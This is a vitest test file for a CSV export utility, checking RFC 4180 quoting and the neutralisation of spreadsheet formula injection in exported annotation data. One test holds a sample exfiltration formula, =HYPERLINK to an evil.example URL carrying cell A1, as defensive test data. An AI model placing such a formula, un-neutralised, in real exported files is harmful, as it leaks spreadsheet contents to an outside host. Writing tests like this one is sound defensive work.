import { describe, expect, it } from 'vitest';
import { buildCsv, csvCell, CSV_COLUMNS } from '../../../../utils/interchange/export';
import { loadDataset, readFixture } from './fixtures';
import { inExportOrder } from '../../../../utils/interchange/export/order';

/** A strict RFC 4180 reader, to check what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [],
    cell = '',
    quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['=1+2', "'=1+2"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['=HYPERLINK("x","y")', `"'=HYPERLINK(""x"",""y"")"`],
    ['a=1', 'a=1'],
    ['', ''],
  ])('%j → %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });
});

describe('buildCsv', () => {
  const data = loadDataset();

  it('matches the expected file for the seed dataset', () => {
    // The expected files are exports as the reader gets them: in export order (export/order.ts).
    expect(buildCsv(inExportOrder(data))).toBe(readFixture('expected.csv'));
  });

  it('writes a header and one row per annotation, with names joined in', () => {
    const rows = parseCsv(buildCsv(data));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(6);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const claim = rows[3];
    expect(claim[col('Article title')]).toBe(
      'Shaanxi model workers helped launch the action of developing new quality productivity',
    );
    expect(claim[col('Site')]).toBe('China Industrial Network');
    expect(claim[col('Claim status')]).toBe('disputed');
    expect(claim[col('Claimant')]).toBe('Duan Xiaolong');
    expect(claim[col('Tags')]).toBe('numbers; -check later');
    expect(rows[1][col('Entity')]).toBe('Wang Jun');
  });

  it('neutralises formulas but keeps the text readable', () => {
    const rows = parseCsv(buildCsv(data));
    const note = CSV_COLUMNS.indexOf('Note');
    expect(rows[5][note]).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"Details")`);
    expect(rows[4][CSV_COLUMNS.indexOf('Tags')]).toBe("'@review");
    expect(rows[4][note]).toContain('\n# not a heading'); // newlines survive inside quotes
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('adds a UTF-8 BOM only when asked', () => {
    expect(buildCsv(data, { bom: true }).startsWith('\uFEFF' + 'Article title')).toBe(true);
    expect(buildCsv(data).charCodeAt(0)).not.toBe(0xfeff);
  });

  it('ends every record with CRLF', () => {
    const out = buildCsv({ articles: [], annotations: [], entities: [] });
    expect(out).toBe(CSV_COLUMNS.join(',') + '\r\n');
  });
});
